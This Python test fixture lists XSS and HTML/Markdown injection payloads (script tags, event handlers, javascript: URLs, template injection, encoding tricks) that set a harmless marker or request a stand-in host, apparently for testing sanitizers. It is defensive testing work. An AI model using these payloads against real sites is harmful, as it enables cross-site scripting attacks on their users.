"""Texts that would run a script, load something or leave the page wherever a page takes text for markup.

Each does `PWNED` or asks for something at `OUTSIDE`, so that a test can tell.
"""

PWNED = "window.__pwned=1"
OUTSIDE = "//outside.example/x"

ELEMENTS = (
    f"<script>{PWNED}</script>",
    f"<SCRIPT>{PWNED}</SCRIPT>",
    f"<script src={OUTSIDE}.js></script>",
    f"<script>alert(1);{PWNED}</script>",
    f"</p></div></article><script>{PWNED}</script>",
    f"</textarea><script>{PWNED}</script>",
    f"</title><script>{PWNED}</script>",
    f"</svg><script>{PWNED}</script>",
    f"--><script>{PWNED}</script><!--",
    f"]]><script>{PWNED}</script>",
    f"<scr<script>ipt>{PWNED}</scr</script>ipt>",
    f"<svg><script>{PWNED}</script></svg>",
    f"<svg><script href={OUTSIDE}.js></script></svg>",
    f"<math><mtext></mtext><script>{PWNED}</script></math>",
    f"<template><script>{PWNED}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={PWNED}>'>",
)
HANDLERS = (
    f"<img src=x onerror={PWNED}>",
    f'<img src="x" onerror="{PWNED}">',
    f"<img/src=x/onerror={PWNED}>",
    f"<IMG SRC=x ONERROR={PWNED}>",
    "<img src=x onerror=&#119;indow.__pwned=1>",
    f"<svg onload={PWNED}>",
    f"<svg/onload={PWNED}//",
    f"<body onload={PWNED}>",
    f"<input autofocus onfocus={PWNED}>",
    f"<select autofocus onfocus={PWNED}><option>x</select>",
    f"<textarea autofocus onfocus={PWNED}>",
    f"<details open ontoggle={PWNED}>",
    f"<video><source onerror={PWNED}></video>",
    f"<audio src=x onerror={PWNED}>",
    f"<marquee onstart={PWNED}>",
    f"<div style=animation-name:spin onanimationstart={PWNED}>x</div>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={PWNED}>",
    f'" onmouseover="{PWNED}" x="',
    f"' autofocus onfocus={PWNED} x='",
    f"` onerror={PWNED} `",
)
RESOURCES = (
    f"<img src={OUTSIDE}.png>",
    f"<iframe src=javascript:{PWNED}></iframe>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f"<object data=javascript:{PWNED}></object>",
    f"<embed src=javascript:{PWNED}>",
    f"<link rel=stylesheet href={OUTSIDE}.css>",
    f"<style>@import '{OUTSIDE}.css';</style>",
    f"<div style=\"background:url('{OUTSIDE}.png')\">x</div>",
    f"<meta http-equiv=refresh content=0;url={OUTSIDE}>",
    f"<base href={OUTSIDE}>",
    f"<form action={OUTSIDE}><button autofocus>x</button></form>",
    f"<form><button formaction=javascript:{PWNED}>x</button></form>",
)
MARKDOWN = (
    f"[x](javascript:{PWNED})",
    f"[x](JaVaScRiPt:{PWNED})",
    f"[x](java&#115;cript:{PWNED})",
    f"[x]( javascript:{PWNED})",
    f"[x](<javascript:{PWNED}>)",
    f"[x](data:text/html,<script>{PWNED}</script>)",
    f"[x](vbscript:{PWNED})",
    f"<javascript:{PWNED}>",
    f"![x](http:{OUTSIDE}.png)",
    f"![x](x){{onerror={PWNED}}}",
    f"[x]: javascript:{PWNED} '[x]'",
    f"`<img src=x onerror={PWNED}>`",
    f"**<img src=x onerror={PWNED}>**",
    f"| <script>{PWNED}</script> |",
)
TEMPLATES = (
    f"{{{{constructor.constructor('{PWNED}')()}}}}",
    f"${{{PWNED}}}",
    f"javascript:{PWNED}",
    f"\u202e<script>{PWNED}</script>",
    f"<\u200bscript>{PWNED}</script>",
    f"&lt;script&gt;{PWNED}&lt;/script&gt;",
)
ALL = ELEMENTS + HANDLERS + RESOURCES + MARKDOWN + TEMPLATES
